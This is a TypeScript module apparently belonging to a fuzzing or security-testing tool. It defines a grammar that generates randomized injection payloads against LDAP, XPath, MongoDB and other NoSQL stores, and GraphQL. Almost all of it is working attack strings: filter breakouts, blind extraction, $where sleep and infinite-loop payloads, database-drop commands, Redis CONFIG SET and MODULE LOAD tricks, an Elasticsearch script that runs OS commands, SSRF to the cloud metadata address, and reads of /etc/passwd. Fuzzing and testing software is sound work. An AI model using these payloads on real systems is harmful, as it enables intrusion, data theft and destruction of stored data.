/** Injection into query languages other than SQL: LDAP, XPath, NoSQL stores, GraphQL. */

import { grammar, lines } from "../lib/grammar.ts";
import { LEXICON } from "../lib/lexicon.ts";
import type { Random } from "../lib/random.ts";

const RULES = grammar({
  ...LEXICON,
  ldap: [
    ["«value»«close»«filter*1-3»«end»", 10],
    ["«shape»", 5],
  ],
  value: ["*", "*", "admin", "«rnd»", "«noun»", "«»", "«letter»*", "*«letter»*"],
  close: [")", "))", ")))", ")(", "*)", "*))", ")%00", "\\2a)", "%29", "*)(|", "))(|", ")("],
  filter: [
    "(«attr»=*)",
    "(«attr»=«rnd»*)",
    "(|(«attr»=*))",
    "(&(«attr»=*)(«attr»=«rnd»))",
    "(!(«attr»=«rnd»))",
    "(«attr»>=«int»)",
    "(|(«attr»=*)(«attr»=*)",
    "(&(objectClass=*)",
    "(«attr»~=«rnd»)",
    "(«attr»:«|dn|caseExactMatch|1.2.840.113556.1.4.803»:=«int»)",
    "(«attr»=\\2a)",
  ],
  attr: [
    "uid",
    "cn",
    "objectClass",
    "objectclass",
    "userPassword",
    "mail",
    "sn",
    "givenName",
    "samAccountName",
    "memberOf",
    "ou",
    "dc",
    "password",
    "homeDirectory",
    "telephoneNumber",
    "department",
    "userid",
    "description",
    "member",
    "dn",
    "loginShell",
    "uidNumber",
    "«rnd»",
    "pass",
    "role",
  ],
  end: ["«»", ")", "))", "%00", "\u0000", "*", "(", "(«attr»=«rnd»", "((", "*))%00", "&", "(|(«attr»=«rnd»"],
  shape: lines`
    *)(«attr»=*))(|(«attr»=*
    *)(|(«attr»=*
    *))(|(«attr»=*
    «rnd»*)((|«attr»=*)
    «rnd»)(|(password=*))
    admin)(&)
    admin)(!(&(|
    «rnd»)(&))
    *(|(«attr»=*))
    *(|(objectclass=*))
    *()|&'
    *()|%26'
    (&(«attr»=«rnd»)(«attr»=*))
    (|(«attr»=«rnd»*)(«attr»=*))
    !(«attr»=«rnd»)
    &(«attr»=«rnd»)
    *)(&
    *)(|(&
    pwd)
    *;mail,cn)(|(«attr»=*
    cn=«rnd»,ou=«rnd»,dc=«rnd»,dc=«com|local»)(«attr»=*
    *)(uid=*))(|(uid=*
    )(cn=))\x00
    %2A%28%7C%28«attr»%3D%2A%29%29
    \2a\29\28«attr»=\2a
    (objectClass=*)
    «rnd»@«rnd».«com|local»)(|(«attr»=*)
    x)(|(«attr»=«rnd»
    //«attr»=«rnd»)(«attr»=*))%00`,

  xpath: lines`
    ' or '«s=small»'='«$s»
    ' or 1=1 or ''='
    ' or ''='
    «rnd»' or «xfn» or '«rnd»'='«rnd»
    ' or «xfn» or ''='
    " or «xfn» or ""="
    «xq»]«|/*|/parent::node()/child::*|/..|/following-sibling::*»|//«xnode»[«xcond»«xq2»
    «xq»] | //«xnode»«|/text()|/@«rnd»»«| | //«rnd»[«xcond»«xq2»»
    «xq»]|//*|//*[«xcond»«xq2»
    «xq» or «xcond» or «xcond»«xq2»
    «xq» and «xcond» and «xq2»
    «xq» and count(/*)=«small» and «xq2»
    «xq» and count(/«|@|child::|comment()|»*)=«small» and «xq2»
    «xq» and substring(name(/*[1]),«small»,1)='«letter»
    «xq» and string-length(name(«/*[«small»]|//«rnd»[«small»]»))«=|>|<»«small» and «xq2»
    «xq» and «contains|starts-with»(«name(/*[1])|//user[1]/name|.»,'«rnd»') and «xq2»
    «xq» or position()=«small» or «xq2»
    «xq» or contains(«.|name|text()»,'«rnd»') or «xq2»
    «xq» or doc('«url»') or «xq2»
    doc(concat('«url»/',encode-for-uri(/*/*[1]/text())))
    /*
    //*
    //«xnode»
    //«xnode»[«xcond»]
    /«xnode»/«xnode»[«xcond»]/«xnode»
    @*
    */*
    //@*
    count(/child::node())
    «xfn»
    x' or name()='username' or 'x'='y
    search=')] | //password | //foo[contains(../foo,'
    admin' or '1'='1' or 'a'='b
    «xq»]/parent::«*|node()»/child::node()|//*[«xcond»«xq2»
    «xq» or /«/|»*[«small»] or «xq2»
    //user[name/text()='' or '1' = '1' and password/text()='' or '1' = '1']
    «xq» or count(//«xnode»)>«digit» or «xq2»
    string(//user[«small»]/«xnode»)`,
  xq: ["'", '"', "«rnd»'", "«noun»'", "«int»", "')", "«int»'", '")', "'])"],
  xq2: ["'«s=small»'='«$s»", "''='", '"«s=letter»"="«$s»', "'«letter»'='«letter»", "('«letter»'='«letter»"],
  xnode: [
    "user",
    "password",
    "*",
    "«noun»",
    "«rnd»",
    "node()",
    "text()",
    "child::node()",
    "user[position()=«small»]",
    "account",
    "employee",
    "@*",
    "comment()",
    "processing-instruction()",
    "@«rnd»",
    "User",
    "users",
  ],
  xcond: [
    "1=1",
    "«n=small»=«$n»",
    "position()=«small»",
    "true()",
    "last()",
    "name()='«rnd»'",
    "contains(«rnd»,'«letter»')",
    "'«s=letter»'='«$s»'",
    "«xfn»",
    "@«rnd»='«rnd»'",
    "text()='«rnd»'",
    "count(*)>«small»",
    "not(«rnd»)",
  ],
  xfn: [
    "count(/*)=«small»",
    "name(/*[1])='«rnd»'",
    "string-length(«rnd»)>«small»",
    'substring((//user[position()=1]/child::node()[position()=2]),1,1)="«letter»"',
    "contains(//«xnode»,'«rnd»')",
    "starts-with(name(parent::*),'«letter»')",
    "position()>«digit»",
    "true()",
    "normalize-space(«rnd»)=''",
    "translate(«rnd»,'«letter»','«Letter»')='«rnd»'",
    "current-date()",
    "doc-available('«url»')",
    "unparsed-text('«unixfile»')",
    "codepoints-to-string(«int»)=''",
    "name(//*[«small»])='«rnd»'",
  ],

  nosql: [
    ["«jsonop»", 6],
    ["«arrayop»", 6],
    ["«where»", 6],
    ["«mongojs»", 4],
    ["«otherstore»", 4],
  ],
  mop: [
    "$ne",
    "$ne",
    "$gt",
    "$gt",
    "$gte",
    "$lt",
    "$lte",
    "$in",
    "$nin",
    "$regex",
    "$regex",
    "$exists",
    "$where",
    "$or",
    "$and",
    "$not",
    "$nor",
    "$eq",
    "$size",
    "$mod",
    "$all",
    "$type",
    "$elemMatch",
    "$expr",
    "$jsonSchema",
    "$text",
    "$comment",
    "$options",
    "$set",
    "$unset",
    "$inc",
    "$push",
    "$lookup",
    "$function",
    "$accumulator",
    "$out",
    "$merge",
    "$rand",
    "$slice",
    "$geoWithin",
    "$match",
    "$project",
  ],
  mval: [
    "null",
    "1",
    '""',
    '"«rnd»"',
    "-1",
    "true",
    "0",
    '".*"',
    '"^«letter»"',
    "[]",
    '["admin","root"]',
    "[«int»]",
    '"^.{«small»}"',
    '{"«mop»":«int»}',
    "undefined",
    '"sleep(«int»)"',
    "'a'",
    "{}",
  ],
  jsonop: [
    '{"«mop»":«mval»}',
    '{"«mop»": «mval»}',
    "{'«mop»':«mval»}",
    "{«mop»:«mval»}",
    '{"«noun»":{"«mop»":«mval»}}',
    '{"«noun»":{"«mop»":«mval»},"«noun»":{"«mop»":«mval»}}',
    '{"$or":[{},{"«noun»":{"«mop»":«mval»}}]}',
    '{"«noun»":"«rnd»","«noun»":{"«mop»":«mval»}}',
    "', $or: [ {}, { 'a':'a",
    "', $or:[{},{'«rnd»':'«rnd»",
    '", "«mop»":«mval», "«rnd»":"',
    "true, $where: '1 == 1'",
    ", $where: '1 == 1'",
    "$where: '1 == 1'",
    "', $where: '1 == 1",
    "{ «mop»: «mval» }",
    '[{"$«match|lookup|out|group»":{"«rnd»":«mval»}}]',
    '{"username":{"$in":["«rnd»","admin"]},"password":{"«mop»":«mval»}}',
    "db.«noun».find({«noun»:{«mop»:«mval»}})",
  ],
  arrayop: [
    "[«mop»]=«mvalplain»",
    "«noun»[«mop»]=«mvalplain»",
    "[«mop»]=",
    "«noun»[«mop»]=«mvalplain»&«noun»[«mop»]=«mvalplain»",
    "[«mop»][]=«rnd»",
    "[«mop»]",
    "«noun»[$regex]=«regex»",
    "[$regex]=«regex»",
    "[$or][«digit»][«noun»]=«rnd»",
    "«noun»[$not][«mop»]=«rnd»",
    "[$where]=«wherejs»",
    "«noun»[$in][]=«rnd»",
    "[«mop»][«mop»]=«int»",
  ],
  mvalplain: ["1", "«int»", "«rnd»", "«»", "null", "true", "«regex»", "admin", "-1", "toto", "xyz"],
  regex: [
    ".*",
    "^«letter»",
    "^«letter».*",
    ".{«int»}",
    "^.{«small»}$",
    "m.*d",
    "^(?!«rnd»)",
    "[a-z]*",
    "^«rnd»",
    "^md.{1}",
  ],
  where: [
    "' || «wherejs» || '",
    "'; «wherejs»; var «rnd2»='",
    "' && «wherejs» && '",
    '" || «wherejs» || "',
    "«int»; «wherejs»",
    "';return «wherejs»;var «rnd2»='",
    "'; return '«s=letter»' == '«$s»' && ''=='",
    "' || '«n=small»'=='«$n»",
    "' || '«n=small»'=='«$n»'//",
    "' || '«n=small»'=='«$n»'%00",
    "'||«n=int»==«$n»//",
    "'||«n=int»==«$n»%00",
    "' && this.«noun».match(/«regex»/)//+%00",
    "' && this.«noun».match(/«regex»/)%00",
    '"||this.«noun»||"',
    "'%20%26%26%20this.«noun».match(/.*/)//+%00",
    "«n=int»'||'«$n»'=='«$n»",
    "|| «n=int»==«$n»",
    "'});«wherejs»;({'",
    "';sleep(«int»);'",
    "\\';«wherejs»;//",
    '{$where:"«wherejs»"}',
    "' } ], $comment:'successful MongoDB injection'",
  ],
  wherejs: [
    "1==1",
    "true",
    "this.«noun»=='«rnd»'",
    "this.«noun».match(/«regex»/)",
    "sleep(«int»000)",
    "sleep(«secs»000)",
    "while(true){}",
    "this.«noun».length>«digit»",
    "function(){return true}",
    "Object.keys(this)[«digit»].match('«regex»')",
    "it=new%20Date();do{pt=new%20Date();}while(pt-it<«int»000)",
    "var date=new Date();do{curDate=new Date();}while((Math.abs(date.getTime()-curDate.getTime()))/1000<«secs»)",
    "return(true)",
    "tojson(this)",
    "db.getName()",
    "!this.«noun»",
    "''==''",
    "db.version()",
    "emit(«int»,«int»)",
    "'«s=letter»'=='«$s»'",
  ],
  mongojs: [
    'db.«noun».«find|insert|drop|remove|update|aggregate|mapReduce|stats|count»(«|{}|{"«rnd»":"«rnd»"}»)',
    "db.«getCollectionNames|dropDatabase|getUsers|createUser|runCommand|eval|hostInfo|serverStatus|version|getCollectionInfos|currentOp»()",
    "';db.«noun».«drop|remove|insert»({});var «rnd2»='",
    "db.«noun».insert({«rnd»:'«rnd»'})",
    "1;db.«noun».drop()",
    'mapReduce(function(){«wherejs»},function(k,v){return 1;},{out:"«rnd»"})',
    "function(){return(«wherejs»);}",
    "db.injection.insert({success:1});",
    "db.injection.insert({success:1});return 1;db.stores.mapReduce(function() { { emit(1,1",
    "';it=new%20Date();do{pt=new%20Date();}while(pt-it<«int»);'",
    "load('«unixfile»')",
    "printjson(db.«noun».findOne())",
    "$«where|func|eval|accumulator»: function(){«wherejs»}",
    '{"$where":"«wherejs»"}',
    'run("«rnd»")',
    '";return(true);var «rnd»="',
    "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<«int»)",
  ],
  otherstore: lines`
    *«small»%0d%0a$«small»%0d%0a«FLUSHALL|CONFIG|SLAVEOF|EVAL|SET»%0d%0a
    FLUSHALL
    CONFIG SET «dir /var/www/html|dbfilename «rnd».php|dir /root/.ssh|requirepass «rnd»»
    EVAL "«os.execute('id')|return redis.call('keys','*')»" 0
    SLAVEOF «host» «port»
    MODULE LOAD /tmp/«rnd».so
    %0d%0a«set|get|delete|stats|flush_all» «rnd» «digit» «int» «small»%0d%0a
    stats «items|slabs|cachedump «small» «int»»
    ' UNION MATCH (n) RETURN n//
    ' OR 1=1 WITH 1 AS «letter» MATCH («letter»:«Rnd») DETACH DELETE «letter» //
    ' OR 1=1 WITH 0 as _0 LOAD CSV FROM '«url»' AS l RETURN 0 //
    '}) RETURN n UNION CALL db.labels() YIELD label RETURN label//
    MATCH (n) DETACH DELETE n
    CALL «db.labels|dbms.procedures|apoc.load.json|dbms.components|apoc.util.sleep»(«'«url»'|»)
    {"query":{"match_all":{}}}
    {"size":1,"script_fields":{"«rnd»":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}}
    {"selector":{"_id":{"$gt":null}}}
    _all_docs?include_docs=true
    {!xmlparser v='<!DOCTYPE a SYSTEM "«url»"><a></a>'}
    {!parent which=«rnd»}
    «*:*|id:*» «OR|AND|NOT|TO» «rnd»:[* TO *]
    stream.body=<«delete|commit»><query>*:*</query></delete>
    ".equals(«rnd») OR ""="
    SELECT * FROM c WHERE true
    ' ALLOW FILTERING; --
    %00{"«mop»":«int»}
    g.V().«drop|valueMap|toList»()
    ?x ?y ?z } UNION { ?s ?p ?o
    ' } . ?s ?p ?o . } #
    \`]]}}}]]>«mop»
    from Users u where 1=1 or ''='
    ' or str(«rnd»)='«rnd»
    ' and dfile('«unixfile»') is null --
    {"_id":"_design/«rnd»","language":"erlang"}`,

  graphql: lines`
    {__schema{types{name}}}
    {__schema{«gqltypes»}}
    {__schema{«gqltypes»{«name|kind|description»,fields{name}}}}
    query{__schema{«gqltypes»{name}}}
    query IntrospectionQuery{__schema{queryType{name}mutationType{name}subscriptionType{name}types{...FullType}directives{name description locations args{...InputValue}}}}
    query «Rnd»{__schema{«gqltypes»{name fields{name args{name type{name kind ofType{name kind}}}}}}}
    query «Rnd» {__schema {queryType {name} mutationType {name} types {«name|kind|description» «name|kind|description» fields {name}}}}
    {__type(name:"«Query|User|Mutation|«Rnd»»"){name fields{name type{name}}}}
    {__type(name:"«Rnd»"){«name|kind|description|fields{name}|inputFields{name}|enumValues{name}»}}
    {__typename}
    query{__typename}
    {"query":"{__schema{types{name}}}"}
    {"query":"query IntrospectionQuery{__schema{«gqltypes»{name}}}"}
    [{"query":"{__typename}"},{"query":"{__typename}"},{"query":"{«rnd»}"}]
    query{a«int»:__typename a«int»:__typename a«int»:__typename a«int»:__typename a«int»:__typename a«int»:__typename}
    {«noun»(id:"«int»' or '1'='1"){«noun»}}
    {«noun»(«noun»:"«int»' UNION SELECT «int»,«noun» FROM «noun»-- "){id}}
    {«noun»(id:"«int»\" or \"1\"=\"1"){«noun» password}}
    mutation{«noun»(url:"««url»|http://169.254.169.254/latest/meta-data/|file://«unixfile»»"){id}}
    mutation{login(«noun»:{$ne:""},password:"«rnd»"){token}}
    mutation{«rnd»(«noun»:"; «cat /etc/passwd|id|sleep «secs»»"){«rnd»}}
    {«noun»(filter:"{\"$where\":\"sleep(«int»)\"}"){id}}
    {«noun»(search:"{\"«noun»\":{\"«mop»\":«int»}}"){id}}
    query{«v=noun»{«noun»{«$v»{«noun»{«$v»{«noun»{«$v»{«noun»{id}}}}}}}}
    fragment «v=Rnd» on «Rnd»{...«w=Rnd»}fragment «$w» on «Rnd»{...«$v»}
    subscription{«rnd»{__typename}}
    query @«skip|include|deprecated»(if:true)@«skip|include»(if:true){__typename}
    {systemDiagnostics(cmd:"«id|whoami»",username:"admin",password:"«rnd»")}
    {__schema%0a{types{name}}}
    {__schema(«rnd»:«int»){«gqltypes»{name}}}`,
  gqltypes: [
    "types",
    "queryType",
    "mutationType",
    "subscriptionType",
    "directives",
    "types{name,fields{name}}directives",
  ],
});

/** LDAP filter injection. */
export const ldap = (rng: Random) => RULES(rng, "ldap");
/** XPath and XQuery injection. */
export const xpath = (rng: Random) => RULES(rng, "xpath");
/** Injection into MongoDB and other NoSQL stores. */
export const nosql = (rng: Random) => RULES(rng, "nosql");
/** GraphQL introspection, batching, injection through arguments. */
export const graphql = (rng: Random) => RULES(rng, "graphql");
